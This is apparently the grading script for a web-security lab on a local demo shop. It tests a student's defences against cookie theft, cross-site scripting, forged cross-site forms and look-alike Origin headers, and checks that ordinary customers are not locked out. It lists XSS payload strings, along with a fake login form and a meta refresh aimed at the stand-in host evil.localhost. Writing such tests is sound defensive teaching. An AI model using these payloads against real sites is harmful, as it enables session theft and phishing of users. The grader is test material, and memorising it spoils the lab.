"""Judge lab 6: what a foreign text and a foreign form can do, and what customers still can."""

from html.parser import HTMLParser
from pathlib import Path

from workshop.attacks.look_alikes import origins
from workshop.runner.loading import module_from
from workshop.runner.verdict import Verdict, cost_us
from workshop.shop.jar import Jar

attack = module_from(Path(__file__).with_name("attack.py"))
HOST = "shop.localhost:8400"
LOGIN_FORM = (
    '<form action="http://evil.localhost/collect">Please log in again <input name="c"></form>'
)
HARMLESS = {"b", "br", "code", "em", "i", "p", "strong"}
"""What a review may be made of at most, without attributes."""
MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<a href=' javascript:alert(1)'>prize</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.localhost/'>",
    "<base href=http://evil.localhost/>",
    "<b onmouseover=alert(1)>tea</b>",
    LOGIN_FORM,
)
TEXTS = (
    "5 < 6 & tea",
    'if a<b then b>a, and that\'s "it"',
    "Tee für 2 €, schön",
    "I <3 this shop",
    "write &lt; for <",
)


class Rendered(HTMLParser):
    """A piece of HTML as a browser shows it: its text, and what else is in it."""

    def __init__(self, markup):
        super().__init__()
        self.text, self.foreign = "", []
        self.feed(f"<li>{markup}</li>")
        self.close()

    def handle_starttag(self, tag, attrs):
        if tag != "li" and (tag not in HARMLESS or attrs):
            self.foreign.append(tag)

    def handle_data(self, data):
        self.text += data


def check(policy, seed):
    """Theft, riding, false forms, the second wall, forged forms; then reviews, links, programs."""
    verdict = Verdict()
    _scripts(verdict, policy)
    _walls(verdict, policy)
    _forms(verdict, policy)
    _users(verdict, policy)
    verdict.cost(
        f"about {cost_us(lambda: policy.show_review('a <b>fine</b> shop')):.1f} us a review, and "
        f"{cost_us(lambda: policy.may_change('POST', {}, 'shop.localhost')):.1f} us a request"
    )
    return verdict


def _scripts(verdict, policy):
    verdict.attack(
        "theft by fetch",
        not attack.steals(policy, attack.BY_FETCH),
        "A script in a review read the cookie and fetched it away.",
        "Hide the cookie from scripts, and let text stay text.",
    )
    verdict.attack(
        "theft by location=",
        not attack.steals(policy, attack.BY_LOCATION),
        "A script in a review read the cookie and left for evil.localhost with it.",
        "No connect-src stops a page from going elsewhere: hide the cookie from scripts.",
    )
    by_tag = attack.rides(policy, attack.BY_FETCH)
    verdict.attack(
        "riding",
        not attack.rides(policy),
        "A script ordered 99 teas in Alice's name without reading anything."
        if by_tag
        else "An image's onerror ordered 99 teas: there are scripts without a script tag.",
        "The browser adds the cookie for any script on the page: foreign text must not be one.",
    )
    drawn = [tag for text in MARKUP for tag in Rendered(policy.show_review(text)).foreign]
    verdict.attack(
        "a false login form",
        not drawn,
        "No script runs, but a review drew a login form on the shop's page that posts to Mallory."
        if "form" in drawn
        else f"A review put <{drawn[0] if drawn else ''}> into the shop's page.",
        "A policy is the second wall: turn <, >, &, and quotes into text first.",
    )


def _walls(verdict, policy):
    """The second wall, each by itself: a script that is on the page already, say from a library."""
    jar = Jar()
    jar.keep(policy.set_cookie("s3cret"), "shop.localhost")
    verdict.attack(
        "a script that is there already",
        "s3cret" not in jar.document_cookie("shop.localhost"),
        "A script on the page, whoever put it there, reads the cookie with document.cookie.",
        "One attribute hides a cookie from scripts: HttpOnly.",
    )
    verdict.attack(
        "the second wall",
        not attack.may_run(policy.content_policy(), policy.content_policy()),
        "If one text is ever shown unescaped, its script runs: the page's policy lets it.",
        "A Content-Security-Policy without 'unsafe-inline' and a fixed nonce, and with your own "
        "sources alone: default-src 'none', or 'self'.",
    )


def _forms(verdict, policy):
    verdict.attack(
        "a form on evil.localhost",
        not attack.forged_form(policy, "evil.localhost"),
        "A form on evil.localhost ordered 99 teas in Alice's name.",
        "Say SameSite, and look at where a request that changes something comes from.",
    )
    verdict.attack(
        "a form on evil.shop.localhost",
        not attack.forged_form(policy, "evil.shop.localhost"),
        "A form on evil.shop.localhost ordered 99 teas: to SameSite, both are the same site.",
        "Let only your own origin change things: look at Sec-Fetch-Site, or at Origin.",
    )

    believed = [
        origin
        for origin in origins(HOST)
        if policy.may_change("POST", {"Origin": origin, "Host": HOST}, HOST)
    ]
    verdict.attack(
        "an Origin that looks alike",
        not believed,
        f"A browser without Sec-Fetch-Site posted from {believed[0] if believed else ''}, and "
        f"the shop, which is {HOST}, believed that it was its own page.",
        'Compare the whole of the Origin: f"http://{host}", and no beginning, end or part of it.',
    )


def _users(verdict, policy):
    shown = {text: Rendered(policy.show_review(text)).text for text in TEXTS}
    wrong = next((text for text in TEXTS if shown[text].strip() != text), "")
    verdict.users(
        "an ordinary review",
        not wrong,
        f"A customer wrote {wrong}, and the page shows something else: {shown.get(wrong, '')}",
        "Escape the text, do not cut things out of it.",
    )
    with attack.open_shop(policy) as shop:
        alice = shop.browser("alice")
        alice.log_in()
        own = alice.post("/cart", {"item": "tea", "quantity": 1}).status
        verdict.users(
            "ordering on the shop's own page",
            own == 200 and alice.me() == "alice",
            f"Alice's own order was answered {own}.",
            "Requests from your own pages have Sec-Fetch-Site: same-origin.",
        )
        alice.page = "http://mail.example/"
        verdict.users(
            "a link in her mail",
            alice.visit(f"http://{alice.authority}/me").status == 200,
            "Alice followed a link from her mail, and the shop did not know her.",
            "A GET changes nothing, so it may come from elsewhere: Lax, not Strict.",
        )
    own = {"Origin": f"http://{HOST}", "Host": HOST}
    verdict.users(
        "an older browser on the shop's own page",
        bool(policy.may_change("POST", own, HOST)),
        f"Alice's browser sends no Sec-Fetch-Site, and her order from http://{HOST} is refused.",
        "An Origin that is the shop's own is fine: it has the port as well, as host has.",
    )
    verdict.users(
        "a program",
        bool(policy.may_change("POST", {}, "shop.localhost")),
        "A program that is no browser sends neither header, and is refused.",
        "Without either header no browser has attached anybody's cookie: let it through.",
    )
